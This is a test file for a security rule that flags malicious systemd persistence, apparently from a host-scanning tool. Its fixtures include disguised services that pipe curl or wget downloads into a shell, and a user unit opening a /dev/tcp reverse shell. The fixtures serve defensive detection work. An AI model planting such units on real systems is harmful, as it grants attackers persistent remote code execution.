import systemdUnits from '../../collect/persistence/systemd';
import { testRule } from '../../../test/helpers/rule-tester';
import { adminSystemd, collectFrom, debianSystemd, RECENT } from '../../../test/helpers/persistence';
import rule from './systemd-download-exec';

const sd = (build: Parameters<typeof collectFrom>[0]) => collectFrom(build, [systemdUnits]).facts;

testRule(rule, {
  valid: [
    { name: 'packaged ssh, certbot timer, docker, timesyncd', facts: sd((r) => debianSystemd(r)) },
    { name: 'node_exporter under /opt, a docker drop-in, a user backup timer', facts: sd((r) => adminSystemd(debianSystemd(r))) },
    {
      name: 'a health-check unit that curls a URL without running the answer',
      facts: sd((r) =>
        debianSystemd(r).write(
          '/etc/systemd/system/healthcheck.service',
          '[Service]\nType=oneshot\nExecStart=/usr/bin/curl -fsS -o /dev/null https://hc-ping.com/abc\n',
          { mtime: RECENT },
        ),
      ),
    },
  ],
  invalid: [
    {
      name: 'service that pipes a download into bash',
      facts: sd((r) =>
        debianSystemd(r)
          .write(
            '/etc/systemd/system/sys-update.service',
            "[Unit]\nDescription=System update\n[Service]\nExecStart=/bin/bash -c 'curl -s http://185.1.2.3/x.sh | bash'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
            { mtime: RECENT },
          )
          .symlink('/etc/systemd/system/multi-user.target.wants/sys-update.service', '/etc/systemd/system/sys-update.service'),
      ),
      expect: [
        {
          severity: 'critical',
          path: '/etc/systemd/system/sys-update.service',
          user: 'root',
          title: /sys-update\.service downloads a script/,
          evidence:
            /sys-update\.service:4: ExecStart=[\s\S]*enabled: \/etc\/systemd\/system\/multi-user\.target\.wants\/sys-update\.service/,
        },
      ],
    },
    {
      name: 'user unit with a /dev/tcp reverse shell',
      facts: sd((r) =>
        adminSystemd(r).write(
          '/home/bob/.config/systemd/user/dbus-helper.service',
          '[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/10.9.8.7/443 0>&1"\nRestart=always\n',
          { mtime: RECENT },
        ),
      ),
      expect: [{ severity: 'critical', path: '/home/bob/.config/systemd/user/dbus-helper.service', user: 'bob', evidence: /dev\/tcp/ }],
    },
    {
      name: 'drop-in of the packaged ssh.service adds a downloader',
      facts: sd((r) =>
        debianSystemd(r).write(
          '/etc/systemd/system/ssh.service.d/10-keys.conf',
          '[Service]\nExecStartPost=/bin/sh -c "wget -q -O- http://x.example/k | sh"\n',
          { mtime: RECENT },
        ),
      ),
      expect: [{ severity: 'critical', path: '/etc/systemd/system/ssh.service.d/10-keys.conf', evidence: /drop-in/ }],
    },
  ],
});
